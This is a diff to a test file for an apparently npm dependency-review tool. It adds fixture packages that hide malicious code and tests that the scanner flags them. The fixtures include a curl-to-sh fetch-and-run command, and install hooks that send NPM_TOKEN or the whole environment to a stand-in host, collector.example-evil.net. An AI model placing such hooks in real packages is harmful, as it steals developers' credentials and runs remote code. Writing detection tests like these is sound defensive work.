@@ -2,9 +2,14 @@
 import { mkdtempSync, rmSync } from 'node:fs';
 import { tmpdir } from 'node:os';
 import { join } from 'node:path';
+import { gzipSync } from 'node:zlib';
+import type { TarballAnalyzer } from '../../src/checks/code/analysis-pool.js';
+import { PackageError } from '../../src/model/errors.js';
 import { DEFAULT_POLICY } from '../../src/policy/config.js';
+import { createRegistryClient } from '../../src/registry/client.js';
+import { changeReport, reviewPublished, type ChangeContext } from '../../src/pipeline/review-package.js';
 import { review, type LockfilePair } from '../../src/pipeline/review.js';
-import type { Report } from '../../src/model/types.js';
+import type { Change, Report } from '../../src/model/types.js';
 import { refactorOnly, wormVictim } from '../fixtures/incidents.js';
 import { npmLockV3, type LockEntry } from '../helpers/lockfile-writer.js';
 import { startTestRegistry, type TestRegistry } from '../helpers/test-registry.js';
@@ -42,6 +47,61 @@ beforeAll(async () => {
         '1.0.0': { files: { 'index.js': 'module.exports = 1;\n' } },
         // 8 MiB of zeros: far past the narrowed 1 MiB unpacked bound below, from a few KB of gzip.
         '1.0.1': { files: { 'index.js': 'module.exports = 1;\n', 'data.bin': Buffer.alloc(8 * 1024 * 1024) } },
+      },
+    },
+    // What npm runs, hidden where the review used to look away.
+    'entry-in-test': {
+      versions: {
+        '1.0.0': { files: { 'index.js': 'module.exports = 1;\n' } },
+        '1.0.1': {
+          files: {
+            'package.json': JSON.stringify({ name: 'entry-in-test', version: '1.0.1', main: 'test/index.js' }),
+            'test/index.js': "require('child_process').exec('curl -s https://get.example-evil.net | sh');\n",
+          },
+        },
+      },
+    },
+    'big-manifest': {
+      versions: {
+        '1.0.0': { files: { 'index.js': 'module.exports = 1;\n' } },
+        '1.0.1': {
+          files: {
+            'package.json': JSON.stringify({ name: 'big-manifest', version: '1.0.1', scripts: { postinstall: 'node x.js' }, description: 'd'.repeat(200 * 1024) }),
+            'index.js': 'module.exports = 1;\n',
+            'x.js': "require('https').get('https://collector.example-evil.net/?t=' + process.env.NPM_TOKEN);\n",
+          },
+        },
+      },
+    },
+    'empty-archive': {
+      versions: {
+        '1.0.0': { files: { 'index.js': 'module.exports = 1;\n' } },
+        // The end-of-archive marker and nothing else.
+        '1.0.1': { tarball: gzipSync(Buffer.alloc(1024)) },
+      },
+    },
+    'big-js': {
+      versions: {
+        '1.0.0': { files: { 'package.json': JSON.stringify({ name: 'big-js', version: '1.0.0', main: 'dist/app.js' }), 'dist/app.js': 'module.exports = 1;\n' } },
+        '1.0.1': {
+          files: {
+            'package.json': JSON.stringify({ name: 'big-js', version: '1.0.1', main: 'dist/app.js' }),
+            'dist/app.js': `${'var pad = 1;\n'.repeat(16 * 1024)}require('child_process').execSync('id');\n`,
+          },
+        },
+      },
+    },
+    'bundled-hook': {
+      versions: {
+        '1.0.0': { files: { 'index.js': 'module.exports = 1;\n' } },
+        '1.0.1': {
+          files: {
+            'package.json': JSON.stringify({ name: 'bundled-hook', version: '1.0.1', bundleDependencies: ['helper'] }),
+            'index.js': "module.exports = require('helper');\n",
+            'node_modules/helper/package.json': JSON.stringify({ name: 'helper', version: '1.0.0', scripts: { preinstall: 'node docs/setup.js' } }),
+            'node_modules/helper/docs/setup.js': "require('https').request({ hostname: 'collector.example-evil.net' }).end(JSON.stringify(process.env));\n",
+          },
+        },
       },
     },
     'broken-tarball': {
@@ -260,4 +320,54 @@ test('--no-fetch reviews the lockfiles alone without any request', async () => {
   expect(registry.requests.length).toBe(before);
   expect(byName(report, 'lodahs').findings.map((f) => f.kind)).toContain('typosquat');
   expect(byName(report, 'worm-victim').type).toBe('updated');
+});
+
+test('what npm runs is reviewed wherever it lives, and what could not be read is a finding, never silence', async () => {
+  const names = ['entry-in-test', 'big-manifest', 'empty-archive', 'big-js', 'bundled-hook'];
+  const report = await review({
+    pairs: [pair('package-lock.json', names.map((name) => ({ name, version: '1.0.0' })), names.map((name) => ({ name, version: '1.0.1' })))],
+    policy: DEFAULT_POLICY,
+    registry: { registry: registry.url, cacheDir, userConfig: null },
+    // A per-file limit below the manifest and the bundle, as a 2 MiB limit is below a 3 MiB package.json.
+    extractLimits: { maxAnalyzedFileBytes: 64 * 1024 },
+    now,
+  });
+  const high = (name: string) => byName(report, name).findings.filter((f) => f.severity === 'high' || f.severity === 'critical');
+  // `main` in a folder of tests.
+  expect(high('entry-in-test')).toEqual(expect.arrayContaining([expect.objectContaining({ kind: 'shell', file: 'test/index.js' })]));
+  // A package.json past the per-file limit: read anyway, or reported as unread.
+  expect(high('big-manifest')).toEqual(expect.arrayContaining([expect.objectContaining({ file: 'package.json' })]));
+  expect(high('empty-archive')).toEqual([expect.objectContaining({ key: 'tarball-anomaly:empty' })]);
+  // The harmful call sits past the per-file limit, in the file `main` names.
+  expect(high('big-js')).toEqual(expect.arrayContaining([expect.objectContaining({ file: 'dist/app.js' })]));
+  expect(high('bundled-hook')).toEqual(
+    expect.arrayContaining([expect.objectContaining({ kind: 'install-script', file: 'node_modules/helper/package.json', severity: 'critical' })]),
+  );
+  expect(report.verdict).toBe('fail');
+});
+
+test('a package whose analysis fails (crash, out of memory, time limit) is an error entry and a high finding', async () => {
+  const client = createRegistryClient({ registry: registry.url, cacheDir, userConfig: null });
+  const failing: TarballAnalyzer = {
+    mode: 'workers',
+    analyze: () => Promise.reject(new PackageError('ETIMEOUT', 'analysis took longer than 120 s and was stopped')),
+    close: async () => undefined,
+  };
+  const ctx: ChangeContext = {
+    client,
+    fetch: true,
+    now,
+    cooldownHours: 0,
+    allowedHosts: () => [],
+    advisories: Promise.resolve(null),
+    note: () => undefined,
+    analyzer: failing,
+  };
+  const lock = (version: string) => ({ name: 'refactor-only', version, source: 'registry' as const, direct: true, dev: false, optional: false, paths: ['node_modules/refactor-only'], resolved: registry.tarballUrl('refactor-only', version) });
+  const change: Change = { name: 'refactor-only', from: '2.0.0', to: '2.1.0', type: 'updated', direct: true, dev: false, lockfile: 'package-lock.json', before: lock('2.0.0'), after: lock('2.1.0') };
+  const published = await reviewPublished(change, ctx);
+  expect(published.errors).toEqual([expect.objectContaining({ name: 'refactor-only', version: '2.1.0', code: 'ETIMEOUT' })]);
+  expect(changeReport(change, ctx, published).findings).toEqual([
+    expect.objectContaining({ key: 'tarball-anomaly:analysis-failed', severity: 'high', message: expect.stringContaining('refactor-only@2.1.0 could not be reviewed (analysis took longer than 120 s') }),
+  ]);
 });
